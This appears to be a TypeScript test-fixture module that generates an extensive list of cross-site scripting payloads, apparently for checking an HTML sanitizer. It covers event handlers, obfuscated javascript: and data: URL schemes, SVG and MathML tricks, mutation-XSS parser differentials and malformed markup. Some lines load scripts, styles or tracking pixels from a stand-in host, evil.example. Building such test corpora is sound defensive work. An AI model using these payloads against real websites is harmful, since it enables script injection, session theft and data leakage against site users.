/** Markup that acts when a page shows it as it is: each of them is seen by the judge of what is alive. */
export function xssVectors(): string[] {
  return [...handlers(), ...links(), ...elements(), ...mutations(), ...attributes(), ...brokenMarkup()];
}

const CODE = 'alert(1)';

const LOADING =
  'img src=x|image src=x|svg|body|iframe|video src=x|audio src=x|object data=x|embed src=x|input type=image src=x|link rel=stylesheet href=x|script src=x|track src=x|frameset|marquee|style'.split(
    '|',
  );
const TOUCHED =
  'p|div|span|a href=#|table|td|button|details open|select autofocus|textarea autofocus|h2|ul|li|b|blockquote|figure'.split(
    '|',
  );

function handlers(): string[] {
  const loaded = LOADING.flatMap((tag) => [
    `<${tag} onload=${CODE}>`,
    `<${tag} onerror="${CODE}">`,
    `<${tag}/onbegin='${CODE}'>x`,
  ]);
  const touched = TOUCHED.flatMap((tag) => [
    `<${tag} onclick="${CODE}">x`,
    `<${tag} OnMouseOver=${CODE}>x`,
    `<${tag}\nonfocus\n=\n"${CODE}" tabindex=1>x`,
  ]);
  return [...loaded, ...touched];
}

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\nscript:',
  'java\tscript:',
  'java\r\nscript:',
  ' javascript:',
  '\u0001javascript:',
  '\u001fjavascript:',
  'javascript\t:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  'jav&#x09;ascript:',
  'jav&Tab;ascript:',
  'java&NewLine;script:',
  'javascript&colon;',
  'javascript&#58;',
  '&#1;javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=,',
  'data:image/svg+xml,<svg onload=1>',
  'vbscript:',
  'VbScRiPt:',
  'blob:https://page.invalid/',
  'filesystem:https://page.invalid/',
  'file:///etc/',
  'view-source:',
  'about:srcdoc#',
  'livescript:',
  'mocha:',
  'jar:https://page.invalid/x!/',
  'intent:',
  'ftp://evil.example/',
  'ws://evil.example/',
];

function links(): string[] {
  return SCHEMES.flatMap((scheme) => [
    `<a href="${scheme}${CODE}">x</a>`,
    `<a title="x" href='${scheme}${CODE}'><b>x</b></a>`,
    `<area href="${scheme}${CODE}"><p>x</p>`,
  ]);
}

function elements(): string[] {
  return [
    `<script/x>${CODE}</script >`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<svg><script>${CODE}</script></svg>`,
    `<svg><script xlink:href=data:,${CODE} /></svg>`,
    `<svg><a xlink:href="javascript:${CODE}"><text>x</text></a></svg>`,
    `<svg><animate xlink:href=#a attributeName=href values=javascript:${CODE} /></svg>`,
    `<svg><set attributeName=onmouseover to=${CODE} /></svg>`,
    `<svg><foreignObject><iframe src="javascript:${CODE}"></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=a onload=1>#a" /></svg>`,
    `<math href="javascript:${CODE}">x</math>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${CODE}">x</maction></math>`,
    `<iframe srcdoc="<script>${CODE}</script>"></iframe>`,
    `<iframe src="javascript:${CODE}">`,
    `<object data="javascript:${CODE}"></object>`,
    `<object type="text/html" data="//evil.example"></object>`,
    `<embed src="javascript:${CODE}">`,
    `<applet code=x></applet>`,
    `<form action="javascript:${CODE}"><button>x</button></form>`,
    `<form><button formaction="javascript:${CODE}">x</button></form>`,
    `<form id=x></form><button form=x formaction=//evil.example>x</button>`,
    `<input type=submit formaction=javascript:${CODE}>`,
    `<isindex action=javascript:${CODE} type=image>`,
    `<base href="//evil.example/">`,
    `<base target="_top">`,
    `<link rel=import href="//evil.example">`,
    `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
    `<meta charset=utf-7>+ADw-script+AD4-`,
    `<style>@import '//evil.example';</style>`,
    `<style>*{background:url(//evil.example)}</style>`,
    `<video><source onerror=${CODE}></video>`,
    `<video poster=javascript:${CODE}//></video>`,
    `<picture><source srcset="//evil.example 1x"><img src=x></picture>`,
    `<portal src="//evil.example"></portal>`,
    `<dialog open onclose=${CODE}><form method=dialog><button>x</button></form></dialog>`,
    `<keygen autofocus onfocus=${CODE}>`,
    `<template><img src=x onerror=${CODE}></template>`,
    `<div><template shadowrootmode=open><script>${CODE}</script></template></div>`,
    `<slot name=x onslotchange=${CODE}></slot>`,
    `<xss style="display:block" onpointerenter=${CODE}>x</xss>`,
    `<x-widget onclick=${CODE}>x</x-widget>`,
    `<vitrine-cart></vitrine-cart>`,
  ];
}

/** What changes its meaning between two parsers, or between parsing and writing. */
function mutations(): string[] {
  const image = `<img src=1 onerror=${CODE}>`;
  return [
    `<noscript><p title="</noscript>${image}"></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;">`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><style><img src=x onerror=${CODE}></style></svg>`,
    `<svg><title><style>${image}</style></title></svg>`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
    `<table><td><svg><desc><td></td></desc><style><title></style>${image}</title></svg></td></table>`,
    `<svg><![CDATA[><image xlink:href="]]>${image}//"></svg>`,
    `<!--<img src="--><img src=x onerror=${CODE}//">`,
    `<!--[if IE]>${image}<![endif]-->${image}`,
    `<!-->${image}-->`,
    `<!--><svg onload=${CODE}>-->`,
    `<?xml ?>${image}`,
    `<textarea></textarea>${image}`,
    `<title></title>${image}`,
    `<xmp></xmp>${image}`,
    `<noembed></noembed>${image}`,
    `<noframes></noframes>${image}`,
    `<select><style></select>${image}</style>`,
    `<select><option><style></option></select>${image}</style>`,
    `<iframe></iframe>${image}`,
    `<plaintext>${image}`,
    `<listing>${image}</listing>`,
    `<a><a href="javascript:${CODE}">x</a></a>`,
    `<p><div><p>${image}</div>`,
    `<table><a href="javascript:${CODE}">x</a></table>`,
    `<table><tr><td>${image}`,
    `${'<div>'.repeat(600)}${image}`,
    `${'<b>'.repeat(50)}<a href="javascript:${CODE}">x</a>`,
    `<svg><p><style><g title="</style>${image}">`,
    `<math><mi></mi><style></math>${image}`,
  ];
}

function attributes(): string[] {
  return [
    `<div style="background:url(javascript:${CODE})">x</div>`,
    `<div style="width:expression(${CODE})">x</div>`,
    `<p style="position:fixed;inset:0">x</p>`,
    `<p style="-moz-binding:url(//evil.example)">x</p>`,
    `<p id="location">x</p>`,
    `<img name="cookie" src="/medias/salon/a.320.webp">`,
    `<a id=x><a id=x name=y href="cid:javascript:${CODE}">x</a>`,
    `<p class="vitrine-overlay">x</p>`,
    `<p part="button" slot="x" is="x-widget">x</p>`,
    `<p contenteditable=true>x</p>`,
    `<p data-vitrine-href="javascript:${CODE}">x</p>`,
    `<p aria-live=assertive>x</p>`,
    `<table background="javascript:${CODE}"><tr><td>x</td></tr></table>`,
    `<td background="//evil.example">x</td><body background="//evil.example">`,
    `<img src="http://evil.example/pixel.gif">`,
    `<img src="//evil.example/pixel.gif">`,
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    `<img src="/medias/../api/users/me">`,
    `<img src="/medias/other/a.320.webp">`,
    `<img src="/medias/salon/a.320.webp" srcset="//evil.example 2x">`,
    `<img src="/medias/salon/a.320.webp" usemap="#m" longdesc="javascript:${CODE}">`,
    `<img dynsrc="javascript:${CODE}" lowsrc="javascript:${CODE}">`,
    `<a href="https://salon.example" ping="//evil.example">x</a>`,
    `<a href="https://salon.example" target="_parent" download>x</a>`,
    `<blockquote cite="javascript:${CODE}">x</blockquote>`,
    `<p popover id=a>x</p><button popovertarget=a onclick=1>x</button>`,
    `<p tabindex=1 autofocus onfocus=${CODE}>x</p>`,
    `<p accesskey=x onclick=${CODE}>x</p>`,
    `<p nonce="abc" hidden>x</p>`,
  ];
}

function brokenMarkup(): string[] {
  return [
    `<scr<script>ipt>${CODE}</scr</script>ipt>`,
    `<<script>${CODE}//<</script>`,
    `<script>${CODE}`,
    `<img src=x onerror=${CODE}//>`,
    `<img """><script>${CODE}</script>">`,
    `<img src='x' onerror='${CODE}'/>`,
    `<img/src/onerror=${CODE}>`,
    `<img src=x\u000conerror=${CODE}>`,
    `<img src=x onerror\u000c=${CODE}>`,
    `<img src="x\` \`<script>${CODE}</script>"\` \`>`,
    `<p title='x'onclick='${CODE}'>x</p>`,
    `<p/onclick=${CODE}>x</p>`,
    `<p =""onclick=${CODE}>x</p>`,
    `<a href="https://salon.example"onclick="${CODE}">x</a>`,
    `<a href=https://salon.example/\u00a0onclick=${CODE} onclick=${CODE}>x</a>`,
    `<a\u000bhref="javascript:${CODE}">x</a><a href="javascript:${CODE}">x</a>`,
    `<IMG SRC=x ONERROR=&#97;&#108;&#101;&#114;&#116;(1)>`,
    `<img src=x onerror="&#x61;lert(1)">`,
    `"><img src=x onerror=${CODE}>`,
    `'-${CODE}-'<svg/onload=${CODE}>`,
    `\`><svg onload=${CODE}>`,
    `--><svg onload=${CODE}>`,
    `</script><svg onload=${CODE}>`,
    `</style></title></textarea><svg onload=${CODE}>`,
    `{{constructor.constructor('${CODE}')()}}<p onclick=1>x</p>`,
    `<p>\${${CODE}}</p><script>1</script>`,
    `%3Cscript%3E<script>${CODE}</script>`,
    `&lt;p&gt;<body onload=${CODE}>`,
  ];
}
